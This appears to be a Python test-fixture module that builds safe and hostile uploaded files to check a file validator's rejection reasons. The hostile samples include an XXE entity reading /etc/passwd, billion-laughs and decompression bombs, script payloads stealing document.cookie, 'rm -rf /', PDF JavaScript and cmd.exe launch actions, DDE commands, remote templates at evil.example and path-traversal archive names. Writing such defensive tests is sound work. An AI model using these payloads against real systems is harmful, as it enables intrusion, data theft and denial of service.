"""Files as people and their enemies make them, written by the tests themselves."""

import io
import struct
import zipfile
import zlib

from PIL import Image

GPS_WORD = "KANARIGPS"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
}


def pdf(*objects, end=b"%%EOF\n"):
    """A PDF of one empty page, with more objects."""
    page = [
        b"1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj",
        b"2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj",
        b"3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>> endobj",
    ]
    body = b"%PDF-1.7\n"
    offsets = []
    for one in page:
        offsets.append(len(body))
        body += one + b"\n"
    body += b"".join(one + b"\n" for one in objects)
    table = b"xref\n0 4\n0000000000 65535 f \n"
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"trailer <</Size 4/Root 1 0 R>>\nstartxref\n%d\n" % len(body)
    return body + table + trailer + end


def packed_in_pdf(words, told=b"/Filter/FlateDecode"):
    """A PDF that keeps an object packed in a stream of objects."""
    packed = zlib.compress(words)
    length = b"%d" % len(packed)
    return pdf(
        b"9 0 obj <</Type/ObjStm/N 1/First 4" + told + b"/Length " + length + b">> stream\n"
        + packed + b"\nendstream endobj"
    )  # fmt: skip


def picture(form="PNG", size=(8, 6), **facts):
    """A picture with some colours in it."""
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, form, **facts)
    return out.getvalue()


def photograph(form="JPEG"):
    """A picture that says who took it, with which camera, and where."""
    exif = Image.Exif()
    exif[0x010F], exif[0x013B] = GPS_WORD, GPS_WORD
    exif.get_ifd(0x8825).update({1: "S", 2: (25.0, 58.0, 0.0), 29: GPS_WORD})
    exif.get_ifd(0x8769).update({0x9286: GPS_WORD.encode()})
    more = {"xmp": f"<x:xmpmeta>{GPS_WORD}</x:xmpmeta>".encode()}
    if form == "JPEG":
        more["comment"] = GPS_WORD.encode()
    return picture(form, exif=exif.tobytes(), **more)


def png_that_says(width, height):
    """The head of a PNG of any size, with one small piece of it."""

    def chunk(kind, content):
        check = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + check

    head = struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    some = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", some) + chunk(b"IEND", b"")


def zipped(parts, *, pack=zipfile.ZIP_DEFLATED):
    """An archive of these parts, in their order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", pack) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def office(kind="docx", *, parts=(), without=(), types=""):
    """An office file of the Microsoft family, with more parts."""
    main = "word/document.xml" if kind.startswith("doc") else "xl/workbook.xml"
    declared = f'<Override PartName="/{main}" ContentType="{MAIN[kind]}"/>{types}'
    all_parts = {
        "[Content_Types].xml": f'<Types xmlns="{TYPES}">{declared}</Types>',
        "_rels/.rels": relations(("officeDocument", main, "")),
        main: "<w:document xmlns:w='w'><w:body><w:p>Ata</w:p></w:body></w:document>",
    } | dict(parts)
    return zipped({name: part for name, part in all_parts.items() if name not in without})


def relations(*told):
    """A part that names other parts: (kind, target, mode)."""
    rows = "".join(
        f'<Relationship Id="r{number}" Type="http://x/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"/>' if mode else "/>")
        for number, (kind, target, mode) in enumerate(told)
    )
    return f'<Relationships xmlns="{RELS}">{rows}</Relationships>'


def open_document(kind="text", content="<office:text>Ata</office:text>", **parts):
    """An office file of the OpenDocument family."""
    spaces = "".join(f' xmlns:{one}="{one}"' for one in ("office", "text", "draw", "xlink"))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        first = zipfile.ZipInfo("mimetype")
        archive.writestr(first, f"application/vnd.oasis.opendocument.{kind}")
        archive.writestr("content.xml", f"<office:document{spaces}>{content}</office:document>")
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


#: One good file of each kind, with the name it might have.
GOOD = {
    "pdf": ("Ata.pdf", pdf()),
    "png": ("Praça.PNG", picture("PNG")),
    "jpeg": ("praca.jpeg", picture("JPEG")),
    "webp": ("praca.webp", picture("WEBP")),
    "docx": ("Acordo.docx", office("docx")),
    "xlsx": ("Orçamento.xlsx", office("xlsx")),
    "odt": ("Acordo.odt", open_document("text")),
    "ods": ("Tabela.ods", open_document("spreadsheet", "<office:x/>")),
    "csv": ("dados.csv", "município;ano\nMaputo;2009\n".encode()),
    "txt": ("nota.txt", "São Tomé\n".encode("cp1252")),
}
XXE = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
LAUGHS = b'<!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><w>&b;</w>'
SCRIPT = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
HTML = b"<!doctype html><script>alert(document.cookie)</script>"

#: Name, content, and what is told of it, of files that are not taken.
HOSTILE = {
    "svg_as_png": ("a.png", SCRIPT, "active"),
    "svg": ("a.svg", SCRIPT, "active"),
    "html_as_pdf": ("a.pdf", HTML, "active"),
    "html_as_text": ("a.txt", b"\n <!-- x --><html>", "active"),
    "html_after_mark": ("a.txt", "\ufeff<SCRIPT>x</SCRIPT>".encode(), "active"),
    "html_in_utf16": ("a.txt", "<html>".encode("utf-16"), "active"),
    "program": ("a.pdf", b"MZ\x90\0" + b"\0" * 100, "active"),
    "shell": ("a.txt", b"#!/bin/sh\nrm -rf /\n", "active"),
    "old_word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99, "old_office"),
    "gif": ("a.gif", b"GIF89a" + b"\0" * 99, "other_picture"),
    "gif_as_png": ("a.png", b"GIF89a/*" + b"\0" * 99, "other_picture"),
    "heic": ("a.heic", b"\0\0\0\x18ftypheic" + b"\0" * 99, "other_picture"),
    "empty": ("a.pdf", b"", "empty"),
    "nothing_known": ("a.bin", b"\0\x01\x02\x03" * 9, "unknown"),
    "empty_zip": ("a.docx", zipped({}), "unknown"),
    "plain_zip": ("a.docx", zipped({"a.txt": "a"}), "unknown"),
    "pdf_named_png": ("a.png", pdf(), "named_otherwise"),
    "png_named_exe": ("a.png.exe", picture(), "named_otherwise"),
    "docx_named_odt": ("a.odt", office(), "named_otherwise"),
    "pdf_and_zip": ("a.pdf", pdf() + zipped({"a": "a"}), "more_than_one"),
    "zip_in_pdf": ("a.pdf", pdf(zipped({"a": "a"})), "more_than_one"),
    "pdf_and_html": ("a.pdf", pdf() + HTML, "more_than_one"),
    "pdf_cut": ("a.pdf", pdf()[:-20], "broken"),
    "pdf_in_text": ("a.txt", b"see %PDF-1.7\n", "more_than_one"),
    "docx_and_html": ("a.docx", office() + HTML, "more_than_one"),
    "html_and_docx": ("a.docx", HTML + office(), "active"),
    "png_cut": ("a.png", picture("PNG", (90, 90))[:-60], "broken"),
    "png_of_nothing": ("a.png", b"\x89PNG\r\n\x1a\n", "broken"),
    "png_50k": ("a.png", png_that_says(50_000, 50_000), "too_many_pixels"),
    "png_strip": ("a.png", png_that_says(2_000_000_000, 1), "too_many_pixels"),
    "javascript": ("a.pdf", pdf(b"9 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj"), "script"),
    "spelled": ("a.pdf", pdf(b"9 0 obj <</S/J#61va#53cript/JS(x)>> endobj"), "script"),
    "launch": ("a.pdf", pdf(b"9 0 obj <</S/Launch/F(cmd.exe)>> endobj"), "script"),
    "xfa": ("a.pdf", pdf(b"9 0 obj <</AcroForm<</XFA 8 0 R>>>> endobj"), "script"),
    "packed_script": ("a.pdf", packed_in_pdf(b"1 0 <</S/JavaScript>>"), "script"),
    "hidden_script": ("a.pdf", packed_in_pdf(b"x", b"/Filter/LZWDecode"), "too_hard"),
    "shifted_script": (
        "a.pdf",
        packed_in_pdf(b"x", b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>"),
        "too_hard",
    ),
    "pdf_bomb": ("a.pdf", lambda: packed_in_pdf(b"\0" * (65 << 20)), "unpacks_too_large"),
    "attached": ("a.pdf", pdf(b"9 0 obj <</Type/EmbeddedFile>> endobj"), "attached"),
    "locked_pdf": ("a.pdf", pdf(b"trailer <</Encrypt 9 0 R>>"), "locked"),
    "docm": ("a.docx", office("docm", parts={"word/vbaProject.bin": "x"}), "macros"),
    "docm_declared": ("a.docx", office("docm"), "macros"),
    "macro_part": ("a.docx", office(parts={"word/vbaProject.bin": "x"}), "macros"),
    "ole": ("a.docx", office(parts={"word/embeddings/oleObject1.bin": "x"}), "macros"),
    "program_part": ("a.docx", office(parts={"word/media/image1.png": b"MZ\x90"}), "macros"),
    "xxe": ("a.docx", office(parts={"word/document.xml": XXE}), "entities"),
    "laughs": ("a.docx", office(parts={"word/styles.xml": LAUGHS}), "entities"),
    "xxe_utf16": (
        "a.docx",
        office(parts={"word/a.xml": XXE[21:].decode().encode("utf-16")}),
        "entities",
    ),
    "no_xml": ("a.docx", office(parts={"word/document.xml": "<a>"}), "broken"),
    "deep_xml": ("a.docx", office(parts={"word/a.xml": "<a>" * 9999}), "too_hard"),
    "template": (
        "a.docx",
        office(
            parts={
                "word/_rels/settings.xml.rels": relations(
                    ("attachedTemplate", "http://evil.example/a.dotm", "External")
                )
            }
        ),
        "outside",
    ),
    "link_runs": (
        "a.docx",
        office(
            parts={"word/_rels/a.xml.rels": relations(("hyperlink", "javascript:x()", "External"))}
        ),
        "outside",
    ),
    "link_without_mode": (
        "a.docx",
        office(parts={"word/_rels/a.xml.rels": relations(("image", "file:///etc/passwd", ""))}),
        "outside",
    ),
    "dde": (
        "a.docx",
        office(
            parts={
                "word/a.xml": "<w xmlns:w='w'><w:instrText>DDE</w:instrText>"
                "<w:instrText>AUTO c:\\cmd.exe</w:instrText></w>"
            }
        ),
        "outside",
    ),
    "dde_formula": (
        "a.xlsx",
        office(
            "xlsx", parts={"xl/worksheets/sheet1.xml": "<s><c><f>cmd|'/c calc'!A1</f></c></s>"}
        ),
        "outside",
    ),
    "outer_book": ("a.xlsx", office("xlsx", parts={"xl/externalLinks/e1.xml": "<a/>"}), "outside"),
    "far_picture": (
        "a.odt",
        open_document(content="<draw:image xlink:href='http://evil.example/a.png'/>"),
        "outside",
    ),
    "basic": ("a.odt", open_document(**{"Basic/Standard/a.xml": "<a/>"}), "macros"),
    "listener": ("a.odt", open_document(content="<office:event-listener/>"), "macros"),
    "climbing": ("a.docx", office(parts={"../../etc/cron.d/x": "x"}), "bad_names"),
    "rooted": ("a.docx", office(parts={"/etc/passwd": "x"}), "bad_names"),
    "backslash": ("a.docx", office(parts={"..\\x": "x"}), "bad_names"),
    "rtl_part": ("a.docx", office(parts={"word/\u202egnp.exe": "x"}), "bad_names"),
    "twice": ("a.docx", office(parts={"WORD/document.xml": "<a/>"}), "bad_names"),
    "bomb": (
        "a.docx",
        lambda: office(parts={"word/media/a.png": b"\0" * (30 << 20)}),
        "unpacks_too_large",
    ),
    "doll": (
        "a.docx",
        office(
            parts={
                "word/embeddings/a.xlsx": office(
                    "xlsx", parts={"xl/embeddings/b.xlsx": office("xlsx")}
                )
            }
        ),
        "too_hard",
    ),
    "doll_with_macro": (
        "a.docx",
        office(parts={"word/embeddings/a.xlsx": office("xlsx", parts={"xl/vbaProject.bin": "x"})}),
        "macros",
    ),
    "archive_part": ("a.docx", office(parts={"word/media/a.png": zipped({"a": "a"})}), "macros"),
    "many_parts": (
        "a.docx",
        lambda: office(parts={f"word/{n}": "" for n in range(5001)}),
        "unpacks_too_large",
    ),
}


def hostile(case):
    """A hostile file: its name, its content, and what is told of it."""
    name, content, problem = HOSTILE[case]
    return name, content() if callable(content) else content, problem
